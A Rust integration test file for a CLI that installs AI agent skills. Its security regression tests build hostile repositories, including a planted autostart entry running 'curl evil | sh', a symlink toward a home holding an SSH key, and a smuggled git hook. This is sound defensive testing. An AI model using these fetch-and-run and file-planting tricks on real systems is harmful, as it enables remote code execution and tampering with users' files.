//! `skills install|status|uninstall SRC...` and `skills extract`: the
//! installer programs use (`skills_install`, re-exported as
//! `skills_runtime::install`), driven from the command line over skill
//! folders and bundle files, in a temporary home and project.

use crate::support;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use support::tree::{copy_tree, scratch, write};
use support::{run_skills, testdata};

/// A project (with `.git`) and a home under one scratch folder.
fn world(name: &str) -> PathBuf {
    let root = scratch("install", name);
    std::fs::create_dir_all(root.join("project/.git")).unwrap();
    std::fs::create_dir_all(root.join("home")).unwrap();
    root
}

/// Far above what any case needs: only a hang reaches it.
const HANG_GUARD: Duration = Duration::from_secs(60);

/// Runs `skills ARGS` in the project with the home of `root`, and waits
/// for it no longer than the hang guard (a run that waits on a pipe fails
/// the test instead of stopping the suite). Its output goes to files
/// beside the project, read when it has ended.
fn skills(root: &Path, args: &[&str]) -> (i32, String, String) {
    let output = |name: &str| std::fs::File::create(root.join(name)).unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_skills"))
        .args(args)
        .current_dir(root.join("project"))
        .env("HOME", root.join("home"))
        .env_remove("CLAUDE_CONFIG_DIR")
        .env_remove("CODEX_HOME")
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("XDG_STATE_HOME")
        .stdin(Stdio::null())
        .stdout(output("stdout"))
        .stderr(output("stderr"))
        .spawn()
        .unwrap();
    let start = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if start.elapsed() > HANG_GUARD {
            let _ = child.kill();
            panic!("skills {args:?}: still running after {HANG_GUARD:?}");
        }
        std::thread::sleep(Duration::from_millis(5));
    };
    let read = |name: &str| std::fs::read_to_string(root.join(name)).unwrap();
    let err = read("stderr");
    assert!(!err.contains("panicked"), "{args:?}: {err}");
    (status.code().unwrap_or(-1), read("stdout"), err)
}

/// Every file under `root`, by relative path.
fn files(root: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for item in std::fs::read_dir(&dir).unwrap() {
            let path = item.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                out.push((
                    path.strip_prefix(root).unwrap().to_path_buf(),
                    std::fs::read(&path).unwrap(),
                ));
            }
        }
    }
    out.sort();
    out
}

#[test]
fn installs_checks_and_removes_skills_from_folders() {
    let root = world("folders");
    let source = testdata("skills");
    let src = source.to_str().unwrap();
    let (code, out, err) = skills(&root, &["status", src]);
    assert_eq!(code, 1, "nothing installed: {out}{err}");
    let (code, out, err) = skills(&root, &["install", src, "--agent", "claude-code,cursor"]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.starts_with("skills 0.1.0: install in the project"),
        "{out}"
    );
    for dir in [".claude/skills", ".cursor/skills"] {
        for name in ["pdf-forms", "csv-report", "git-rebase"] {
            let installed = root.join("project").join(dir).join(name);
            assert_eq!(files(&installed), files(&source.join(name)), "{dir}/{name}");
        }
    }
    assert!(
        root.join("project/.agents/.skills-install/skills.project.json")
            .is_file()
    );
    let (code, out, _) = skills(&root, &["status", src]);
    assert_eq!(code, 0, "{out}");
    // status exits 1 as soon as one skill is not up to date.
    let edited = root.join("project/.cursor/skills/git-rebase/SKILL.md");
    std::fs::write(&edited, "mine\n").unwrap();
    let (code, out, _) = skills(&root, &["status", src]);
    assert_eq!(code, 1);
    assert!(out.contains("git-rebase  modified by the user"), "{out}");
    // An install refuses to overwrite it; --force does.
    let (code, out, err) = skills(&root, &["install", src]);
    assert_eq!(code, 1, "{out}");
    assert!(err.contains("--force"), "{err}");
    assert_eq!(std::fs::read(&edited).unwrap(), b"mine\n");
    let (code, _, _) = skills(&root, &["install", src, "--force"]);
    assert_eq!(code, 0);
    assert_ne!(std::fs::read(&edited).unwrap(), b"mine\n");
    // Another source's skills are installed beside, not instead, in every
    // folder installed to before.
    let other = root.join("other");
    write(
        &other,
        "extra/SKILL.md",
        "---\nname: extra\ndescription: Another skill.\n---\nBody.\n",
    );
    let (code, out, err) = skills(&root, &["install", other.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        root.join("project/.claude/skills/pdf-forms/SKILL.md")
            .is_file()
    );
    assert!(root.join("project/.claude/skills/extra/SKILL.md").is_file());
    assert!(root.join("project/.cursor/skills/extra/SKILL.md").is_file());
    // Uninstalling the first source leaves the second's skill.
    let (code, out, err) = skills(&root, &["uninstall", src]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(!root.join("project/.claude/skills/pdf-forms").exists());
    assert!(!root.join("project/.cursor/skills/pdf-forms").exists());
    assert!(root.join("project/.claude/skills/extra/SKILL.md").is_file());
    // Then the second: nothing of the installer is left.
    let (code, _, _) = skills(&root, &["uninstall", other.to_str().unwrap()]);
    assert_eq!(code, 0);
    let mut left: Vec<String> = std::fs::read_dir(root.join("project"))
        .unwrap()
        .map(|item| item.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, [".git"], "folders left empty are removed");
}

#[test]
fn a_bundle_file_installs_and_extracts_byte_for_byte() {
    let root = world("bundle");
    let bundle = root.join("skills.bin");
    let out = run_skills(
        None,
        &[
            "build",
            testdata("skills").to_str().unwrap(),
            "-o",
            bundle.to_str().unwrap(),
        ],
    );
    assert!(out.status.success());
    let b = bundle.to_str().unwrap();
    let (code, out, err) = skills(
        &root,
        &["install", "--bundle", b, "--scope", "user", "--json"],
    );
    assert_eq!(code, 0, "{out}{err}");
    let json: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(json["applied"], true);
    assert!(
        root.join("home/.claude/skills/pdf-forms/assets/logo.png")
            .is_file()
    );
    assert!(
        root.join("home/.codex/skills/pdf-forms/assets/logo.png")
            .is_file()
    );
    let (code, _, _) = skills(&root, &["status", b, "--bundle", "--scope", "user"]);
    assert_eq!(code, 0);

    let out_dir = root.join("extracted");
    let (code, out, err) = skills(&root, &["extract", b, out_dir.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(files(&out_dir), files(&testdata("skills")));
    let (code, _, err) = skills(&root, &["extract", b, out_dir.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert!(err.contains("already exists"), "{err}");
}

#[test]
fn sources_with_errors_install_nothing() {
    let root = world("errors");
    let bad = root.join("bad");
    copy_tree(&testdata("skills"), &bad);
    write(&bad, "Broken/SKILL.md", "---\nname: Broken\n---\n");
    let (code, out, err) = skills(&root, &["install", bad.to_str().unwrap()]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(err.contains("error: nothing installed"), "{err}");
    assert!(!root.join("project/.claude").exists());
    let (code, _, err) = skills(&root, &["install", "--bundle", "a", "b"]);
    assert_eq!(code, 2, "{err}");
    let (code, _, err) = skills(&root, &["install", "x", "--agent", "vim"]);
    assert_eq!(code, 2);
    assert!(err.contains("unknown agent"), "{err}");
}

/// Issue 30: a skill written for Claude Code installs byte for byte under
/// `--host claude-code` (its evals/ left out), and the plan notes, per
/// agent folder, the host fields that agent's host ignores or warns on.
#[test]
fn host_fields_are_installed_as_written_and_noted_where_ignored() {
    let root = world("hosts");
    let skill_md = "---\nname: deploy-helper\ndescription: Deploys the app to staging.\ndisable-model-invocation: true\nargument-hint: \"[environment]\"\nallowed-tools: Bash(git:*) Read\nmodel: sonnet\n---\nDeploy.\n";
    write(&root, "src/deploy-helper/SKILL.md", skill_md);
    write(&root, "src/deploy-helper/evals/evals.json", "[]");
    let source = root.join("src");
    let source = source.to_str().unwrap();
    let agents = "--agent=claude-code,github-copilot,cursor";
    let (code, _, err) = skills(&root, &["install", agents, source]);
    assert_eq!(code, 1, "without the profile the skill has errors: {err}");
    assert!(err.contains("--host claude-code"), "{err}");
    let (code, out, err) = skills(&root, &["install", "--host=claude-code", agents, source]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("note[evals-skipped]"), "{err}");
    assert!(
        out.contains(
            "           note: GitHub Copilot: VS Code warns on model, a field it does not read\n"
        ),
        "{out}"
    );
    assert!(
        out.contains("           note: Cursor: ignores argument-hint, model\n"),
        "{out}"
    );
    let claude = out.split(".claude/skills").nth(1).unwrap();
    assert!(
        !claude.lines().take(2).any(|line| line.contains("note:")),
        "Claude Code reads every field: {out}"
    );
    for dir in [".claude/skills", ".agents/skills", ".cursor/skills"] {
        let installed = root.join("project").join(dir).join("deploy-helper");
        assert_eq!(
            std::fs::read_to_string(installed.join("SKILL.md")).unwrap(),
            skill_md
        );
        assert!(!installed.join("evals").exists());
    }
    // The notes are in the JSON plan too (nothing to write now: none).
    write(
        &root,
        "src/deploy-helper/SKILL.md",
        skill_md.replace("Deploy.", "Deploy it."),
    );
    let (code, out, err) = skills(
        &root,
        &[
            "install",
            "--json",
            "--dry-run",
            "--host=claude-code",
            agents,
            source,
        ],
    );
    assert_eq!(code, 0, "{err}");
    let plan: serde_json::Value = serde_json::from_str(&out).unwrap();
    let notes: Vec<&str> = plan["directories"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|dir| dir["skills"].as_array().unwrap())
        .flat_map(|skill| skill["notes"].as_array().unwrap())
        .map(|note| note.as_str().unwrap())
        .collect();
    assert_eq!(
        notes,
        [
            "GitHub Copilot: VS Code warns on model, a field it does not read",
            "Cursor: ignores argument-hint, model"
        ]
    );
}

/// Everything under `root`, links not followed: files with their bytes,
/// folders, links with their targets, anything else by its kind.
fn tree(root: &Path) -> Vec<(PathBuf, String)> {
    let mut out = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(items) = std::fs::read_dir(&dir) else {
            continue;
        };
        for item in items {
            let path = item.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            let what = if meta.file_type().is_symlink() {
                format!("link {}", std::fs::read_link(&path).unwrap().display())
            } else if meta.is_dir() {
                stack.push(path.clone());
                "folder".to_string()
            } else if meta.is_file() {
                format!("file {:?}", std::fs::read(&path).unwrap())
            } else {
                "special".to_string()
            };
            out.push((path.strip_prefix(root).unwrap().to_path_buf(), what));
        }
    }
    out.sort();
    out
}

/// Finding 0 (issue 28): OpenClaw's project folder is `<project>/skills`,
/// where authors keep their sources; installing or uninstalling those
/// sources there is refused, and nothing is removed.
#[test]
fn finding_0_the_source_folder_is_never_an_install_target() {
    let root = world("finding0-openclaw");
    let project = root.join("project");
    copy_tree(&testdata("skills"), &project.join("skills"));
    let before = tree(&project);
    let (code, out, err) = skills(
        &root,
        &["install", "skills", "--agent", "openclaw", "--dry-run"],
    );
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        out.contains("is the folder the skills are read from"),
        "{out}{err}"
    );
    for agents in ["openclaw", "all"] {
        let (code, out, err) = skills(&root, &["uninstall", "skills", "--agent", agents]);
        assert_eq!(code, 1, "{out}{err}");
        assert_eq!(tree(&project), before, "uninstall --agent {agents}");
        let (code, out, err) = skills(&root, &["install", "skills", "--agent", agents]);
        assert_eq!(code, 1, "{out}{err}");
        assert_eq!(tree(&project), before, "install --agent {agents}");
    }

    // Sources kept in `.claude/skills`, the folder Claude Code reads.
    let root = world("finding0-claude");
    let project = root.join("project");
    copy_tree(&testdata("skills"), &project.join(".claude/skills"));
    let before = tree(&project);
    let (code, out, err) = skills(&root, &["uninstall", ".claude/skills"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        out.contains("is the folder the skills are read from"),
        "{out}{err}"
    );
    assert_eq!(tree(&project), before, "uninstall .claude/skills");
    // One skill of it as the source: the target holds the source.
    let (code, out, err) = skills(&root, &["uninstall", ".claude/skills/pdf-forms"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("holds the folder"), "{out}{err}");
    assert_eq!(tree(&project), before, "uninstall .claude/skills/pdf-forms");
}

/// Finding 1 (issue 28): a repository that commits
/// `.claude/skills/.skills-staging/skills.project.1-1` with a journal
/// naming paths through a link to the user's home changes nothing there.
#[cfg(unix)]
#[test]
fn finding_1_a_committed_staging_journal_changes_nothing_outside() {
    let root = world("finding1");
    let victim = root.join("victim-home");
    write(&victim, "docs/thesis.md", "years of work\n");
    write(&victim, ".ssh/id_ed25519", "secret key\n");
    std::fs::create_dir_all(victim.join(".config")).unwrap();
    let skills_dir = root.join("project/.claude/skills");
    let staging = skills_dir.join(".skills-staging/skills.project.1-1");
    write(
        &staging,
        "old/L/.config/autostart/evil.desktop",
        "[Desktop Entry]\nExec=curl evil | sh\n",
    );
    write(&staging, "undone/L/.keep", "");
    std::fs::create_dir_all(staging.join("undone/L/.ssh")).unwrap();
    write(
        &staging,
        "journal",
        "L/docs\t0\t1\nL/.ssh/id_ed25519\t0\t1\nL/.config/autostart\t1\t0\n",
    );
    std::os::unix::fs::symlink(&victim, skills_dir.join("L")).unwrap();
    let victim_before = tree(&victim);
    let staging_before = tree(&staging);
    let src = testdata("skills");
    let src = src.to_str().unwrap();
    for args in [
        &["status", src][..],
        &["install", src],
        &["status", src],
        &["uninstall", src],
        &["install", src, "--force"],
    ] {
        let (_, out, err) = skills(&root, args);
        assert_eq!(tree(&victim), victim_before, "{args:?}: {out}{err}");
        assert_eq!(tree(&staging), staging_before, "{args:?}: {out}{err}");
    }
    assert!(!victim.join(".config/autostart").exists());
}

/// Finding 2 (issue 28): folder keys of a committed record outside the
/// project (`../outside`, an absolute path) are never written to.
#[test]
fn finding_2_record_folder_keys_outside_the_project_are_refused() {
    let root = world("finding2");
    let outside = root.join("outside");
    let absolute = root.join("absolute");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::create_dir_all(&absolute).unwrap();
    let folder = |key: &str| {
        format!(
            r#""{key}": {{"agents": ["claude-code"], "created": [], "skills": {{"pdf-forms": {{"revision": "", "link": null, "files": {{}}}}}}}}"#
        )
    };
    write(
        &root.join("project"),
        ".agents/.skills-install/skills.project.json",
        format!(
            r#"{{"format": "skills-install-record-v1", "tool": "skills", "version": "0.1.0",
  "scope": "project", "bundle_revision": "", "transaction": "",
  "directories": {{{}, {}}}}}"#,
            folder("../outside"),
            folder(absolute.to_str().unwrap())
        ),
    );
    let src = testdata("skills");
    let src = src.to_str().unwrap();
    for args in [&["install", src][..], &["install", src, "--force"]] {
        let (code, out, err) = skills(&root, args);
        assert_eq!(code, 1, "{args:?}: {out}{err}");
        assert!(tree(&outside).is_empty(), "{args:?}: {out}{err}");
        assert!(tree(&absolute).is_empty(), "{args:?}: {out}{err}");
    }
}

/// Review defect 1: a repository commits `.claude/skills -> ../.git` and
/// sources with a skill named `hooks` holding an executable `pre-commit`:
/// `skills install` (default agents, no `--force`, and with it) plants no
/// git hook; `.git` is no agent's folder.
#[cfg(unix)]
#[test]
fn review_1_a_committed_link_to_git_plants_no_hook() {
    let root = world("review1");
    let project = root.join("project");
    write(&project, ".git/hooks/pre-commit.sample", "#!/bin/sh\n");
    write(
        &project,
        "agentsrc/hooks/SKILL.md",
        "---\nname: hooks\ndescription: Git hooks, as a repository would ship them.\n---\n\nBody.\n",
    );
    write(
        &project,
        "agentsrc/hooks/pre-commit",
        "#!/bin/sh\necho planted\n",
    );
    std::fs::create_dir_all(project.join(".claude")).unwrap();
    std::os::unix::fs::symlink("../.git", project.join(".claude/skills")).unwrap();
    let before = tree(&project.join(".git"));
    for args in [
        &["install", "agentsrc"][..],
        &["install", "agentsrc", "--force"],
    ] {
        let (code, out, err) = skills(&root, args);
        assert_eq!(code, 1, "{args:?}: {out}{err}");
        assert!(out.contains("no agent's skill folder"), "{args:?}: {out}");
        assert!(!project.join(".git/hooks/pre-commit").exists(), "{args:?}");
        assert_eq!(tree(&project.join(".git")), before, "{args:?}");
    }
}

/// Puts a hostile state file in the state folder (first), maybe pointing
/// at a folder outside (second).
#[cfg(unix)]
type Plant = fn(&Path, &Path);

/// Finding 3 (issue 28): a record or lock that is a pipe, a link to a
/// device or a link out is refused or passed by, never waited on, read
/// without end, or created through.
#[cfg(unix)]
#[test]
fn finding_3_state_files_are_never_opened_as_found() {
    let src = testdata("skills");
    let src = src.to_str().unwrap();
    let cases: [(&str, Plant); 4] = [
        ("record is a FIFO", |state, _| {
            mkfifo(&state.join("skills.project.json"))
        }),
        ("lock is a FIFO", |state, _| mkfifo(&state.join("lock"))),
        ("record links to /dev/zero", |state, _| {
            std::os::unix::fs::symlink("/dev/zero", state.join("skills.project.json")).unwrap()
        }),
        ("lock links to a missing file outside", |state, outside| {
            std::os::unix::fs::symlink(outside.join("made-by-lock"), state.join("lock")).unwrap()
        }),
    ];
    for (what, plant) in cases {
        let root = world("finding3");
        let state = root.join("project/.agents/.skills-install");
        std::fs::create_dir_all(&state).unwrap();
        let outside = root.join("outside");
        std::fs::create_dir_all(&outside).unwrap();
        plant(&state, &outside);
        for action in ["status", "install", "uninstall"] {
            let (code, out, err) = skills(&root, &[action, src]);
            if what.starts_with("record") {
                assert_eq!(code, 1, "{what}: {action}: {out}{err}");
                assert!(err.contains("install record"), "{what}: {action}: {err}");
            }
            assert!(tree(&outside).is_empty(), "{what}: {action}: {out}{err}");
        }
    }
}

#[cfg(unix)]
fn mkfifo(path: &Path) {
    let made = Command::new("mkfifo").arg(path).status().expect("mkfifo");
    assert!(made.success(), "mkfifo {}", path.display());
}

/// Asserts `skills status --check skills` (and its formats) in `root`
/// exits `code` and, failing, reports `rule` for `file`.
#[track_caller]
fn check(root: &Path, code: i32, rule: &str, file: &str) -> String {
    let (got, out, err) = skills(root, &["status", "--check", "skills"]);
    assert_eq!(got, code, "{out}{err}");
    let (got, github, _) = skills(root, &["status", "--check", "skills", "--format", "github"]);
    assert_eq!(got, code, "{github}");
    let (got, json, _) = skills(root, &["status", "--check", "skills", "--format", "json"]);
    assert_eq!(got, code, "{json}");
    let (got, sarif, _) = skills(root, &["status", "--check", "skills", "--format", "sarif"]);
    assert_eq!(got, code, "{sarif}");
    if code == 1 {
        let annotation = format!("::error file={file},title={rule}::");
        assert!(github.contains(&annotation), "{annotation}\n{github}");
        assert!(json.contains(&format!("\"code\": \"{rule}\"")), "{json}");
        assert!(json.contains("\"ok\": false"), "{json}");
        assert!(
            sarif.contains(&format!("\"ruleId\": \"{rule}\"")),
            "{sarif}"
        );
    } else {
        assert!(
            out.ends_with("each exactly the skill's files\n") && !github.contains("::error"),
            "{out}{github}"
        );
    }
    out
}

#[test]
fn status_check_fails_ci_when_committed_copies_drift() {
    let root = world("check");
    let project = root.join("project");
    copy_tree(&testdata("skills"), &project.join("skills"));
    let (code, out, err) = skills(&root, &["install", "skills", "--agent", "claude-code"]);
    assert_eq!(code, 0, "{out}{err}");
    check(&root, 0, "", "");
    let claude = project.join(".claude/skills");

    // A source changed, the committed copy not reinstalled: stale.
    let reference = project.join("skills/pdf-forms/reference.md");
    let mut text = std::fs::read_to_string(&reference).unwrap();
    text.push_str("\nA new paragraph.\n");
    std::fs::write(&reference, text).unwrap();
    let out = check(
        &root,
        1,
        "installed-stale",
        ".claude/skills/pdf-forms/reference.md",
    );
    assert!(
        out.contains("  pdf-forms  outdated: `skills install skills` updates it\n    reference.md is from an earlier version (stale)\n"),
        "{out}"
    );
    assert!(!out.contains("skills skill install"), "{out}");
    let (code, _, _) = skills(&root, &["install", "skills"]);
    assert_eq!(code, 0);
    check(&root, 0, "", "");

    // A copy edited where agents read it.
    std::fs::write(claude.join("git-rebase/SKILL.md"), "mine\n").unwrap();
    let out = check(
        &root,
        1,
        "installed-edited",
        ".claude/skills/git-rebase/SKILL.md",
    );
    assert!(
        out.contains("`skills install skills --force` replaces it with this version"),
        "{out}"
    );
    assert_eq!(skills(&root, &["install", "skills", "--force"]).0, 0);
    check(&root, 0, "", "");

    // A copy deleted.
    std::fs::remove_dir_all(claude.join("csv-report")).unwrap();
    check(&root, 1, "installed-missing", ".claude/skills/csv-report");
    assert_eq!(skills(&root, &["install", "skills"]).0, 0);
    check(&root, 0, "", "");

    // A file that is not part of the skill: status is content, the check
    // is not.
    let notes = claude.join("pdf-forms/notes.md");
    std::fs::write(&notes, "mine\n").unwrap();
    assert_eq!(skills(&root, &["status", "skills"]).0, 0);
    check(
        &root,
        1,
        "installed-extra",
        ".claude/skills/pdf-forms/notes.md",
    );
    std::fs::remove_file(&notes).unwrap();
    check(&root, 0, "", "");

    // A skill of the sources someone else put there, different.
    write(
        &project.join("skills"),
        "fresh/SKILL.md",
        "---\nname: fresh\ndescription: New.\n---\nBody.\n",
    );
    write(&claude, "fresh/SKILL.md", "not the source\n");
    check(
        &root,
        1,
        "installed-foreign",
        ".claude/skills/fresh/SKILL.md",
    );
    assert_eq!(skills(&root, &["install", "skills", "--force"]).0, 0);
    check(&root, 0, "", "");

    // Usage: --format is the check's; --json is the status's.
    let (code, _, err) = skills(&root, &["status", "skills", "--format", "json"]);
    assert_eq!(code, 2, "{err}");
    let (code, _, _) = skills(
        &root,
        &[
            "status", "skills", "--check", "--json", "--format", "github",
        ],
    );
    assert_eq!(code, 2);
}

/// `--into DIR`: a plain folder, its state in DIR/.skills-install, nothing
/// under the home or the project's agents' folders; `--force` moves a
/// changed copy aside; `status` and `uninstall` name the same folder.
#[test]
fn into_a_plain_folder() {
    let root = world("into");
    let source = root.join("source");
    copy_tree(&testdata("skills"), &source);
    let src = source.to_str().unwrap();
    let (code, out, err) = skills(&root, &["install", "--into", "../app/skills", src]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("in the folder"), "{out}");
    let app = root.join("app/skills");
    let mut names: Vec<String> = std::fs::read_dir(&app)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [".skills-install", "csv-report", "git-rebase", "pdf-forms"]
    );
    assert!(!root.join("project/.agents").exists());
    assert!(!root.join("home/.local").exists());
    let edited = app.join("pdf-forms/reference.md");
    std::fs::write(&edited, "mine\n").unwrap();
    let (code, out, _) = skills(&root, &["status", "--into", "../app/skills", src]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("--into ../app/skills --force"), "{out}");
    let (code, _, err) = skills(&root, &["install", "--into", "../app/skills", src]);
    assert_eq!(code, 1);
    assert!(err.contains("aside"), "{err}");
    assert_eq!(std::fs::read(&edited).unwrap(), b"mine\n");
    let (code, out, err) = skills(
        &root,
        &["install", "--into", "../app/skills", "--force", src],
    );
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(
        std::fs::read(app.join("pdf-forms.user-1/reference.md")).unwrap(),
        b"mine\n"
    );
    assert_ne!(std::fs::read(&edited).unwrap(), b"mine\n");
    let (code, out, err) = skills(&root, &["uninstall", "--into", "../app/skills", src]);
    assert_eq!(code, 0, "{out}{err}");
    assert!(!app.join(".skills-install").exists());
    assert!(
        app.join("pdf-forms.user-1").is_dir(),
        "the user's copy stays"
    );
    // Not with agents' options; never into a source.
    let (code, _, err) = skills(&root, &["install", "--into", "x", "--scope", "user", src]);
    assert_eq!(code, 2, "{err}");
    let (code, _, err) = skills(&root, &["install", "--into", src, src]);
    assert_eq!(code, 1, "{err}");
    assert_eq!(files(&source), files(&testdata("skills")));
}

/// One conflict no longer blocks every other update: the edited skill is
/// kept and listed, the others are written, exit 1; `--all-or-nothing`
/// writes nothing; the plan says a refused replace needs `--force`, and
/// uninstall's message says what uninstall does.
#[test]
fn one_conflict_keeps_that_skill_and_updates_the_rest() {
    let root = world("keep-conflicts");
    let source = root.join("source");
    copy_tree(&testdata("skills"), &source);
    let src = source.to_str().unwrap();
    let (code, _, _) = skills(&root, &["install", "--agent", "claude-code", src]);
    assert_eq!(code, 0);
    let dir = root.join("project/.claude/skills");
    std::fs::write(dir.join("pdf-forms/reference.md"), "mine\n").unwrap();
    let changed = source.join("git-rebase/SKILL.md");
    let mut text = std::fs::read_to_string(&changed).unwrap();
    text.push_str("\nOne more line.\n");
    std::fs::write(&changed, &text).unwrap();
    let (code, out, err) = skills(&root, &["install", "--all-or-nothing", src]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.contains("1 replaced with --force"), "{out}");
    assert!(out.contains("nothing is written"), "{out}");
    assert_ne!(
        std::fs::read_to_string(dir.join("git-rebase/SKILL.md")).unwrap(),
        text
    );
    let (code, out, err) = skills(&root, &["install", src]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        out.contains("pdf-forms  modified by the user: left as it is"),
        "{out}"
    );
    assert!(err.contains("1 skill kept as it is"), "{err}");
    assert_eq!(
        std::fs::read_to_string(dir.join("git-rebase/SKILL.md")).unwrap(),
        text
    );
    assert_eq!(
        std::fs::read(dir.join("pdf-forms/reference.md")).unwrap(),
        b"mine\n"
    );
    let (code, out, err) = skills(&root, &["uninstall", src]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        err.contains("nothing was removed; give --force to remove them too"),
        "{err}"
    );
    assert!(dir.join("git-rebase/SKILL.md").is_file());
}
